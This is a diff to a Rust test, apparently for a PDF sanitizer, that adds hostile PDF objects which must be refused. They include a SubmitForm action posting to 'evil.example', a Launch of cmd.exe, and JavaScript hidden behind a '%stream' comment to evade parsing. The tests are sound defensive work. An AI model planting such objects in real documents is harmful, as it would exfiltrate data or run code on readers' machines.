@@ -231,6 +231,15 @@ fn pdf_active_content_is_refused_however_spelled() {
         "1 0 obj << /S /Launch /F (cmd.exe) >> endobj",
         "1 0 obj << /Names << /EmbeddedFiles 2 0 R >> >> endobj",
         "1 0 obj << /Type /EmbeddedFile >> endobj",
+        "1 0 obj << /S /SubmitForm /F (https://evil.example/) >> endobj",
+        "1 0 obj << /S /ImportData /F (x.fdf) >> endobj",
+        "1 0 obj << /S /GoToE /T << /R /C /N (x) >> >> endobj",
+        // A comment that says `stream` starts no stream data: what follows is still read.
+        "%stream
+1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj
+%endstream",
+        "% x stream
+1 0 obj << /S /Launch /F (cmd.exe) >> endobj",
     ] {
         let bytes = pdf(body);
         for chunk in [1, 4, 65536] {
